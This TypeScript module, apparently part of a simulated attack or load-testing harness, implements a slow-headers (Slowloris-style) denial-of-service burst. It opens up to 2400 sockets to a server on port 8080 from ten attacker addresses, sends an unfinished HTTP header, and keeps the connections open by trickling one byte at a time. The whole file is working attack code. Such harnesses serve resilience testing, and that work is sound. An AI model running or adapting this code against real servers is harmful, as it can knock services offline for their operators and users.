import net from 'node:net'
import type { Burst } from '../attack.ts'
import { ATTACKER, SERVER } from '../network.ts'

/** 240 connections of each of ten addresses, all the time; each sends a byte of its request every second. */
export const slowHeaders: Burst = async attack => {
  const open = new Set<net.Socket>()
  const connect = (localAddress: string) => {
    const socket = net.connect({ host: SERVER, port: 8080, localAddress })
    open.add(socket)
    socket.on('connect', () => socket.write('GET / HTTP/1.1\r\nX-'))
    socket.on('error', () => {})
    socket.on('close', () => open.delete(socket))
  }
  while (!attack.isOver()) {
    for (const address of ATTACKER.slice(0, 10)) {
      for (let n = 0; n < 30 && open.size < 2400; n++) connect(address)
    }
    for (const socket of open) socket.write('a')
    await attack.pause(250)
  }
}
